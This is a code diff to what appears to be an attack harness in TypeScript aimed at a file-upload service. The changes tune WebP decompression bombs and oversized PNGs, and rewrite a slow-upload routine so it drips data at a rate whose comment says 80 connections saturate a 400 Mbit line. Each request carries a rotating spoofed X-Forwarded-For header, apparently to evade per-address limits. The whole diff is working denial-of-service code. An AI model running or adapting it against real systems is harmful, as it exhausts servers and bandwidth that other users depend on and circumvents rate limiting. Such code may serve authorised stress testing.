@@ -34,6 +34,10 @@ async function enrol({ address, ...codes }: Extract<AttackOrder, { act: "enrol" 
   await supervisor.enrol(codes.supervisor);
 }
 
+const part = new Uint8Array(62_500);
+const dripMs = 100;
+const slowMs = 9_000;
+
 /** Round and round, so many at a time. */
 async function flood(seconds: number): Promise<Answers> {
   const until = performance.now() + seconds * 1_000;
@@ -90,8 +94,8 @@ const prepare: Record<Flood, () => Promise<void>> = {
       [another(profile, at), "image/png"],
       [another(data, at), "image/png"],
       [webpBomb(16_383, 16_000 + at), "image/webp"],
-      [another(largePng(4_000, 6_000), at), "image/png"],
-      [webpBomb(4_000, 5_400 + at), "image/webp"],
+      [another(largePng(4_000, 5_000), at), "image/png"],
+      [webpBomb(4_000, 2_990 + at), "image/webp"],
     ]).flat();
     senders = [];
     for (const [bytes, type] of made) {
@@ -137,7 +141,7 @@ async function statusOf(response: Response): Promise<number> {
   return response.status;
 }
 
-/** Nearly a whole file, and then nothing for a second. */
+/** 5 Mbit a second until nearly all of a file is sent, and then nothing: 80 of them fill a line of 400 Mbit. */
 function sendSlowly(path: string, proof: string): Promise<number> {
   const { port, hostname, host } = new URL(intake);
   return new Promise((resolve) => {
@@ -154,7 +158,16 @@ function sendSlowly(path: string, proof: string): Promise<number> {
       ...[`X-Forwarded-For: 203.0.113.${++place & 7}`, `Content-Length: ${limits.fileBytes}`],
     ];
     socket.write(`${headers.join("\r\n")}\r\n\r\n`);
-    socket.write(new Uint8Array(limits.fileBytes - 1));
-    void setTimeout(1_000).then(() => socket.destroy());
+    let left = limits.fileBytes - 1;
+    const dripping = setInterval(() => {
+      if (left <= 0 || socket.writableNeedDrain) return;
+      socket.write(part.subarray(0, left));
+      left -= part.length;
+    }, dripMs);
+    const over = globalThis.setTimeout(() => socket.destroy(), slowMs);
+    socket.once("close", () => {
+      clearInterval(dripping);
+      clearTimeout(over);
+    });
   });
 }
